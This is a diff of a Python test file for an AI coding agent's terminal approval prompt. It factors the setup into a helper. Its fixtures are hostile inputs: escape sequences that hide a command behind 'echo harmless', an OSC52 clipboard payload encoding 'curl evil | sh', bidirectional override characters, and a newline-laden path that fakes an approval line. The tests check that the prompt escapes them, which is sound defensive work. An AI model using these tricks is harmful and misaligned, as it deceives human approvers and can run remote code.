@@ -18,23 +18,34 @@ COMMAND = f"{HIDDEN} #\r\x1b[2K\x1b[1Aecho harmless"
 OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
 
 
-def test_a_prompt_shows_control_characters_escaped(tmp_path: Path, kiln_home: Path) -> None:
-    root = tmp_path / "repo"
-    root.mkdir()
-    (root / "notes.txt").write_text(f"title\n{OSC52}\u202eevil\u202c\nbody\n")
+def ask_on_terminal(
+    tmp_path: Path, kiln_home: Path, root: Path, steps: list[object], typed: bytes
+) -> str:
+    """What `kiln run --mode ask` printed on a pseudo-terminal, the scripted model taking
+    ``steps`` and ``typed`` answering its questions."""
     script = tmp_path / "script.json"
-    script.write_text(json.dumps([
-        {"tool_calls": [{"name": "run_command", "input": {"command": COMMAND}}]},
-        {"tool_calls": [{"name": "edit_file", "input": {"path": "notes.txt", "old_text": "body",
-                                                          "new_text": "text"}}]},
-        "done",
-    ]))  # fmt: skip
+    script.write_text(json.dumps(steps))
     env = {**os.environ, "HOME": str(tmp_path), "KILN_HOME": str(kiln_home),
            "KILN_PROVIDER": "scripted", "KILN_SCRIPT": str(script), "TERM": "dumb"}  # fmt: skip
     _, text = run_on_terminal(
         [sys.executable, "-m", "lsp_server", "run", "--mode", "ask", "go"],
-        env=env, cwd=root, typed=b"n\nn\n",  # decline both questions (the terminal buffers them)
+        env=env, cwd=root, typed=typed,
     )  # fmt: skip
+    return text
+
+
+def test_a_prompt_shows_control_characters_escaped(tmp_path: Path, kiln_home: Path) -> None:
+    root = tmp_path / "repo"
+    root.mkdir()
+    (root / "notes.txt").write_text(f"title\n{OSC52}\u202eevil\u202c\nbody\n")
+    steps: list[object] = [
+        {"tool_calls": [{"name": "run_command", "input": {"command": COMMAND}}]},
+        {"tool_calls": [{"name": "edit_file", "input": {"path": "notes.txt", "old_text": "body",
+                                                          "new_text": "text"}}]},
+        "done",
+    ]  # fmt: skip
+    # decline both questions (the terminal buffers them)
+    text = ask_on_terminal(tmp_path, kiln_home, root, steps, b"n\nn\n")
     assert "Allow" in text and "harmless" in text and HIDDEN in text, text
     assert "\x1b" not in text and "\r\x1b" not in text, repr(text)
     assert "\u202e" not in text and "\x07" not in text, repr(text)
@@ -50,17 +61,8 @@ def test_a_path_with_new_lines_stays_on_its_line(tmp_path: Path, kiln_home: Path
     root.mkdir()
     (root / "setup.py").write_text("print(1)\n")
     path = "README.md" + "\n" * 4 + "(approved by your settings)\n/../setup.py"
-    script = tmp_path / "script.json"
-    script.write_text(json.dumps([
-        {"tool_calls": [{"name": "write_file", "input": {"path": path, "content": "x\n"}}]},
-        "done",
-    ]))  # fmt: skip
-    env = {**os.environ, "HOME": str(tmp_path), "KILN_HOME": str(kiln_home),
-           "KILN_PROVIDER": "scripted", "KILN_SCRIPT": str(script), "TERM": "dumb"}  # fmt: skip
-    _, text = run_on_terminal(
-        [sys.executable, "-m", "lsp_server", "run", "--mode", "ask", "go"],
-        env=env, cwd=root, typed=b"n\n",
-    )  # fmt: skip
+    write = {"name": "write_file", "input": {"path": path, "content": "x\n"}}
+    text = ask_on_terminal(tmp_path, kiln_home, root, [{"tool_calls": [write]}, "done"], b"n\n")
     question = next(line for line in text.splitlines() if line.startswith("Allow "))
     assert "setup.py?" in question, text
     assert not any(line.startswith("(approved") for line in text.splitlines()), text
